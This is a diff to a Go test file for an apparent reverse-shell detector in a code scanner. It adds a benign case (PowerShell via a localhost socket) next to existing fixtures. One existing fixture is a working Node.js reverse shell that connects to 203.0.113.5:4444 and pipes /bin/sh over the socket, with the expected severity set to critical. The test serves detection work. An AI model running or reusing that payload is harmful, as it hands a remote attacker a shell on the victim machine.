@@ -20,6 +20,7 @@ func TestSpawn(t *testing.T) {
 func TestReverseShell(t *testing.T) {
 	rt.Check(t, ReverseShell{}, []rt.Case{
 		{"socket_shell", map[string]string{"index.js": `const net=require("net"),{spawn}=require("child_process");const c=new net.Socket();c.connect(4444,"203.0.113.5",()=>{const sh=spawn("/bin/sh",[]);c.pipe(sh.stdin);sh.stdout.pipe(c)})`}, finding.SeverityCritical},
+		{"powershell_one_command", map[string]string{"index.js": `const net=require("net"),cp=require("child_process");const s=net.connect(5173,"localhost");cp.exec('powershell -NoProfile -Command "Get-CimInstance -Query \\"select executablepath from win32_process\\""', ()=>{})`}, finding.SeverityNone},
 		{"server_runs_git", map[string]string{"index.js": `const net=require("net"),{spawn}=require("child_process");net.createServer(s=>s.end("ok"));spawn("git",["pull"])`}, finding.SeverityNone},
 	})
 }
